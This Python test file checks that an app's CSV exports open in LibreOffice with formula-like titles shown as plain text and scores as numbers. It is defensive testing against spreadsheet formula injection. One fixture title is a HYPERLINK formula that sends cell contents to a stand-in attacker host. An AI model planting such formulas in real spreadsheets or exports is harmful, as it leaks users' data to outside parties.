"""The secretariat's .csv files as a person sees them in a spreadsheet: LibreOffice
(headless, formulas evaluated, as tests/libreoffice.py opens them) shows a text that looks
like a formula as that text, not its result and without a stray apostrophe, and the
scores as numbers (docs/formats/nominee-list.md, "Text stays text")."""

from __future__ import annotations

import csv
import unicodedata
from dataclasses import replace
from pathlib import Path

from panel_app.formats.nominee_list import write_nominee_list
from panel_app.formats.results import write_results
from tests.formats import test_nominee_list, test_results
from tests.libreoffice import csv_as_shown
from tests.test_any_text_in_every_file import write_table

TITLES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
    "=1+1",
    "+1 million learners",
    "-5% emissions: e-waste",
    "@risk: health data",
    "\tTab first",
    "'Quoted' in the title",
    "\u200bStarts with the guard itself",
    "Plain title",
]


def visible(text: str) -> str:
    """What is drawn of a cell's text: format characters (U+200B among them) are not."""
    return "".join(c for c in text if unicodedata.category(c) != "Cf")


def read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_libreoffice_shows_the_text_and_the_numbers(tmp_path: Path) -> None:
    nominees, finalists, results = (
        tmp_path / f"{n}.csv" for n in ("nominees", "finalists", "results")
    )
    write_nominee_list(
        nominees,
        [test_nominee_list.nominee(t, raw_score=75.0, calibrated_score=81.2345) for t in TITLES],
        test_nominee_list.INFO,
    )
    write_table("finalists", finalists, TITLES)
    write_results(
        results,
        [replace(test_results.result(), title=t, final_score=75.0) for t in TITLES],
        test_results.INFO,
    )
    # The files hold the scores with the 2 decimals the format documents.
    assert {tuple(r[8:10]) for r in read(nominees)[1:]} == {("75.00", "81.23")}
    assert {r[8] for r in read(results)[1:]} == {"75.00"}

    shown = csv_as_shown([nominees, finalists, results], tmp_path / "shown", tmp_path / "profile")
    for name, column in (("nominees.csv", 4), ("finalists.csv", 6), ("results.csv", 4)):
        cells = [row[column] for row in shown[name][1:]]
        # The text as written: not evaluated (=1+1 would show 2), no apostrophe added ...
        assert [visible(c) for c in cells] == [visible(t) for t in TITLES], name
        # ... and exactly the text once a program strips the documented guard.
        assert [c.removeprefix("\u200b") for c in cells] == TITLES, name
    # Numbers, not text: LibreOffice shows them in its General format (a text "75.00"
    # would show as written).
    assert {tuple(r[8:10]) for r in shown["nominees.csv"][1:]} == {("75", "81.23")}
    assert {r[8] for r in shown["results.csv"][1:]} == {"75"}
